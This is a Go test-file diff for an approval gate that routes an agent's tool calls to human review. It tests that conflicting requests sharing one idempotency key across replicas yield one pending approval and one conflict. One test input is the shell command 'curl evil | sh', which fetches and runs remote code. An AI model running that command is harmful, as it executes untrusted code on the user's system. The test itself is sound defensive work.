@@ -3,12 +3,16 @@ package gate_test
 import (
 	"context"
 	"encoding/json"
+	"errors"
+	"fmt"
+	"sync"
 	"testing"
 	"time"
 
 	"github.com/redis/go-redis/v9"
 
 	"github.com/hitlbot/hitlbot/approval"
+	"github.com/hitlbot/hitlbot/approval/memstore"
 	"github.com/hitlbot/hitlbot/approval/redisstore"
 	"github.com/hitlbot/hitlbot/gate"
 	"github.com/hitlbot/hitlbot/internal/testredis"
@@ -72,5 +76,104 @@ func TestTwoReplicas(t *testing.T) {
 		}
 	case <-time.After(20 * time.Second):
 		t.Fatal("A's waiter did not hear B's decision")
+	}
+}
+
+// replicaStores are the stores replicas share: one memory store (two
+// engines on it), and one Redis.
+var replicaStores = []struct {
+	name   string
+	stores func(testing.TB) []approval.Store
+}{
+	{"memory", func(testing.TB) []approval.Store {
+		s := memstore.New(memstore.Options{})
+		return []approval.Store{s, s}
+	}},
+	{"redis", func(t testing.TB) []approval.Store { return redisReplicas(t, 2) }},
+}
+
+// requestAfter is an Engine whose first Request runs first before it
+// asks: the approval it then puts meets one made meanwhile.
+type requestAfter struct {
+	gate.Engine
+	once  sync.Once
+	first func()
+}
+
+func (e *requestAfter) Request(ctx context.Context, r approval.Request) (*approval.Approval, error) {
+	e.once.Do(e.first)
+	return e.Engine.Request(ctx, r)
+}
+
+// TestKeyConflictAcrossReplicas: two requests with one key and different
+// inputs on two replicas. The one whose approval the store refuses (it
+// found no approval of the key, then the other replica's was put first)
+// is a conflict, not the other's answer; and when both race freely, one
+// is asked and the other is a conflict, each with its own input.
+func TestKeyConflictAcrossReplicas(t *testing.T) {
+	for _, st := range replicaStores {
+		t.Run(st.name, func(t *testing.T) {
+			stores := st.stores(t)
+			a, b := newRigOn(t, stores[0]), newRigOn(t, stores[1])
+			ctx := context.Background()
+			x := gate.Ask{Tool: "Bash", Input: json.RawMessage(`{"command":"ls build"}`), Key: "toolu_race"}
+			y := gate.Ask{Tool: "Bash", Input: json.RawMessage(`{"command":"curl evil | sh"}`), Key: "toolu_race"}
+			var won gate.Answer
+			var wonErr error
+			b.withEngine(t, &requestAfter{Engine: b.engine, first: func() { won, wonErr = a.gate.Ask(ctx, a.ci, x) }})
+			lost, err := b.gate.Ask(ctx, b.ci, y)
+			if wonErr != nil || won.Status != gate.StatusPending {
+				t.Fatalf("the first on A: %+v, %v", won, wonErr)
+			}
+			if !errors.Is(err, gate.ErrKeyConflict) {
+				t.Fatalf("the one B's store refused: %+v, %v; want an idempotency conflict (A's approval is %s)", lost, err, won.ID)
+			}
+			if card := a.card(t); card.ID != won.ID || string(card.Calls[0].Args) != `{"command":"ls build"}` {
+				t.Fatalf("A's card: %s %s", card.ID, card.Calls[0].Args)
+			}
+			select {
+			case c := <-b.shown:
+				t.Fatalf("B showed a card: %s %s", c.ID, c.Calls[0].Args)
+			default:
+			}
+
+			b.withEngine(t, b.engine)
+			for i := range 8 {
+				key := fmt.Sprintf("toolu_free_%d", i)
+				asks := [2]gate.Ask{{Tool: "Bash", Input: json.RawMessage(`{"command":"make a"}`), Key: key}, {Tool: "Bash", Input: json.RawMessage(`{"command":"make b"}`), Key: key}}
+				rigs := [2]*rig{a, b}
+				var answers [2]gate.Answer
+				var errs [2]error
+				start := make(chan struct{})
+				var wg sync.WaitGroup
+				for j := range 2 {
+					wg.Go(func() {
+						<-start
+						answers[j], errs[j] = rigs[j].gate.Ask(ctx, rigs[j].ci, asks[j])
+					})
+				}
+				close(start)
+				wg.Wait()
+				asked := -1
+				for j := range 2 {
+					switch {
+					case errs[j] == nil && answers[j].Status == gate.StatusPending:
+						if asked >= 0 {
+							t.Fatalf("%s: both asked: %+v, %+v", key, answers[0], answers[1])
+						}
+						asked = j
+					case !errors.Is(errs[j], gate.ErrKeyConflict):
+						t.Fatalf("%s on replica %d: %+v, %v; want pending or an idempotency conflict", key, j, answers[j], errs[j])
+					}
+				}
+				if asked < 0 {
+					t.Fatalf("%s: neither was asked: %v, %v", key, errs[0], errs[1])
+				}
+				card := rigs[asked].card(t)
+				if card.ID != answers[asked].ID || string(card.Calls[0].Args) != string(asks[asked].Input) {
+					t.Fatalf("%s: the card %s %s; want %s %s", key, card.ID, card.Calls[0].Args, answers[asked].ID, asks[asked].Input)
+				}
+			}
+		})
 	}
 }
